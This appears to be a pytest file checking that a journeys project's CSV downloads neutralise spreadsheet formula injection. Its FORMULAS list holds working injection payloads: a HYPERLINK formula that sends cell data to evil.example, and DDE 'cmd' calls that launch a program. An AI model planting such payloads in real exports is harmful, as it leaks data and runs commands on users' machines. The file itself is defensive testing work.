"""Issue 12.7: a cell that a spreadsheet would run as a formula is written inert in the CSV downloads."""

from __future__ import annotations

import csv
import io

import pytest

from conftest import DEFAULT_TABLES, make_package
from journeys.domain import summarise
from journeys.model import load_authority
from journeys.outputs import downloads
from journeys.domain.disclosure import protect

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]


def csv_rows(tmp_path, name: str, **tables) -> list[dict]:
    authority = protect(load_authority(make_package(tmp_path, **tables)))
    files = downloads.files(authority, summarise(authority).statuses)
    return list(csv.DictReader(io.StringIO(files[f"downloads/{name}.csv"].decode("utf-8"))))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(tmp_path, formula):
    themes = [dict(DEFAULT_TABLES["themes"][0], title=formula), DEFAULT_TABLES["themes"][1]]
    assert csv_rows(tmp_path, "themes", themes=themes)[0]["title"] == "'" + formula


def test_negative_and_signed_numbers_stay_numbers(tmp_path):
    observations = [dict(DEFAULT_TABLES["observations"][2], value=value, period=f"2016-{month:02d}")
                    for month, value in ((1, "-3"), (2, "-0.5"), (3, "+40"), (4, "-1e3"), (5, "1722"))]
    values = [row["value"] for row in csv_rows(tmp_path, "observations", observations=observations)]
    assert values == ["-3", "-0.5", "+40", "-1e3", "1722"]  # (+4 would be a small count of children: c)


@pytest.mark.parametrize("cell, written", [("=1", "'=1"), ("-", "'-"), ("- a list", "'- a list"), ("a=1", "a=1"),
                                           ("-12.5", "-12.5"), ("", ""), ("\r=1", "'\r=1")])
def test_inert(cell, written):
    assert downloads.inert(cell) == written
